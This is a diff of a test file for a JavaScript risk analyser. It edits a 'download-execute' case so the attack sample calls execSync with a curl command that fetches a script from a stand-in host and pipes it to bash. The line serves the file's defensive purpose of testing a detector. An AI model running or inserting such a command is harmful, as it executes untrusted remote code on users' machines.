@@ -1,6 +1,5 @@
 import { describe, expect, it } from 'vitest'
-import { analyseJavaScript } from '../../../src/risk/script/analyse-javascript.ts'
-import { errors, shell, warnings } from './acts.ts'
+import { analyseJavaScript, errors, shell, warnings } from './acts.ts'
 
 /** Name, the kind that must be found at error level, the attack, and honest code that looks like it. */
 const CASES: readonly (readonly [name: string, kind: string, attack: string, honest: string])[] = [
@@ -134,7 +133,7 @@ const CASES: readonly (readonly [name: string, kind: string, attack: string, hon
   [
     'a shell string',
     'download-execute',
-    'import { execSync } from "child_process"\nexecSync(`curl -s ${base}/i.sh | bash`)',
+    'import { execSync } from "child_process"\nexecSync(`curl -s https://x.some-site.net/i.sh${query} | bash`)',
     'import { execSync } from "child_process"\nexecSync(`git log ${range}`)',
   ],
   [
